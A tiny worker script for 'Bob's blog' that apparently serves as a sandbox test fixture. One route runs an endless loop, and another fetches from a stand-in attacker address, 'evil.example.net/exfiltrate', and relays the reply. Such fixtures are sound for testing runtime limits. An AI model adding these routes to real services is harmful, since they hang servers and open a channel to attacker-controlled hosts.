export default {
  async fetch(request) {
    const path = new URL(request.url).pathname;
    if (path === "/spin") { for (;;) {} }
    if (path === "/leak") {
      const response = await fetch("https://evil.example.net/exfiltrate");
      return new Response(await response.text(), { status: response.status });
    }
    return new Response("Bob's blog");
  },
};
